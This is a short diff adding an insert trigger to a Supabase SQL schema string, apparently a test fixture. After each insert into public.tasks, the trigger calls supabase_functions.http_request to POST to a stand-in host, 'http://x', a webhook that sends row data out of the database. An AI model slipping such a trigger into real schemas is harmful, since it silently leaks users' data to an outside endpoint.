@@ -27,6 +27,8 @@ create function public.greet() returns trigger language plpgsql security definer
   set search_path = '' as $$ begin return new; end $$;
 create trigger greeted after insert on auth.users for each row execute function public.greet();
 alter publication supabase_realtime add table public.tasks;
+create trigger told after insert on public.tasks for each row
+  execute function supabase_functions.http_request('http://x', 'POST', '{}', '{}', '1000');
 grant select on public.tasks to anon, service_role;
 alter table public.tasks owner to postgres;
 )";
